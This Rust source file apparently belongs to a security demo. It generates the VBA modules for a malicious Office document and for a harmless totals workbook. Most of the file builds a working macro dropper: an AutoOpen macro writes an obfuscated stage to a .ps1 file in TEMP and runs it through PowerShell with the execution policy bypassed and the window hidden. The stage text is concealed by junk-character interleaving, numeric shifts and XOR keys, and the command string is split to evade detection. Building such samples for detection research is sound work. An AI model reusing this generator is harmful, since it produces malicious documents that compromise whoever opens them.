//! The macros of the demo: one that builds and starts the stage, and one that adds up cells.
//!
//! The hostile one hides its text as such macros do: in pieces over several functions, as differences, as
//! numbers with a key, with letters strewn in. For a Mac it holds a URL and does nothing with it.

use crate::demo::cast::Cast;
use crate::demo::stream::Stream;

/// A module: its name and its source.
pub(super) type Module = (&'static str, String);

/// Returns the modules of the hostile document; they build `stage`.
pub(super) fn hostile(cast: &Cast, stage: &str) -> Vec<Module> {
    let mut draw = Stream::of(cast.seed, "mail/macros");
    let letters: Vec<char> = stage.chars().collect();
    let names: Vec<String> = letters.chunks(240).map(|_| draw.letters(7)).collect();
    let pieces = letters.chunks(240).zip(&names).enumerate();
    let functions: String = pieces
        .map(|(number, (piece, name))| match number % 3 {
            0 => strewn(name, piece, &mut draw),
            1 => shifted(name, piece, 3 + draw.below(20) as u32),
            _ => keyed(name, piece, 1 + draw.below(30) as u32),
        })
        .collect();
    let all = names.join("() & ") + "()";
    vec![
        (
            "ThisDocument",
            "Sub AutoOpen()\n    ShowGuide\nEnd Sub\n".to_owned(),
        ),
        ("Guide", guide(cast, &all)),
        ("Pages", functions),
    ]
}

fn guide(cast: &Cast, all: &str) -> String {
    format!(
        r#"#If Mac Then
Private Const Source As String = "{}"
#End If

Sub ShowGuide()
#If Mac Then
    Dim page As String
    page = Source
#Else
    Dim place As String
    place = Environ("TEMP") & "\" & SomeName(11) & ".ps1"
    Dim number As Integer
    number = FreeFile
    Open place For Output As #number
    Print #number, {all};
    Close #number
    Shell "powershell -exec" & "utionpolicy b" & "ypass -f " & Chr(34) & place & Chr(34), 0
#End If
End Sub

Function SomeName(length As Integer) As String
    Dim i As Integer
    Randomize
    For i = 1 To length
        SomeName = SomeName & Chr(97 + Int(Rnd() * 26))
    Next i
End Function
"#,
        cast.mac_url()
    )
}

/// Every letter followed by a sign that a `Replace` takes out again.
fn strewn(name: &str, piece: &[char], draw: &mut Stream) -> String {
    let sign = *['~', '^', '`']
        .iter()
        .find(|sign| !piece.contains(sign))
        .unwrap_or(&'\u{a7}');
    let text: String = piece.iter().flat_map(|letter| [*letter, sign]).collect();
    let mut body = String::new();
    let letters: Vec<char> = text.chars().collect();
    for part in letters.chunks(80 + draw.below(20) as usize * 2) {
        body += &format!("    {name} = {name} & {}\n", literal(part));
    }
    format!(
        "Function {name}() As String\n{body}    {name} = Replace({name}, \"{sign}\", \"\")\nEnd Function\n\n"
    )
}

/// Returns a string literal; line ends and quotes stand outside of it as numbers.
fn literal(letters: &[char]) -> String {
    let mut text = "\"".to_owned();
    for letter in letters {
        match letter {
            '"' => text += "\"\"",
            '\r' | '\n' => text += &format!("\" & Chr({}) & \"", u32::from(*letter)),
            letter => text.push(*letter),
        }
    }
    text + "\""
}

/// Numbers between hyphens, each too large by the same.
fn shifted(name: &str, piece: &[char], shift: u32) -> String {
    numbers(
        name,
        piece,
        |code| code + shift,
        &format!("Chr(CInt(parts(i)) - {shift})"),
    )
}

/// Numbers between hyphens under a key.
fn keyed(name: &str, piece: &[char], key: u32) -> String {
    numbers(
        name,
        piece,
        |code| code ^ key,
        &format!("Chr(CInt(parts(i)) Xor {key})"),
    )
}

fn numbers(name: &str, piece: &[char], encode: impl Fn(u32) -> u32, decode: &str) -> String {
    let codes: Vec<String> = piece
        .iter()
        .map(|letter| encode(u32::from(*letter)).to_string())
        .collect();
    let lines: Vec<String> = codes.chunks(60).map(|line| line.join("-")).collect();
    let mut body = String::new();
    for (number, line) in lines.iter().enumerate() {
        let hyphen = if number + 1 < lines.len() { "-" } else { "" };
        body += &format!("    text = text & \"{line}{hyphen}\"\n");
    }
    format!(
        "Function {name}() As String\n    Dim text As String, parts As Variant, i As Integer\n{body}    \
         parts = Split(text, \"-\")\n    For i = 0 To UBound(parts)\n        {name} = {name} & {decode}\n    \
         Next i\nEnd Function\n\n"
    )
}

/// Returns the modules of the harmless workbook.
pub(super) fn harmless() -> Vec<Module> {
    let sums = "Sub UpdateTotals()\n    Dim row As Integer, total As Double\n    For row = 2 To 13\n        \
                total = total + Cells(row, 2).Value\n    Next row\n    Cells(14, 2).Value = total\nEnd Sub\n";
    vec![
        ("ThisWorkbook", "Option Explicit\n".to_owned()),
        ("Totals", sums.to_owned()),
    ]
}
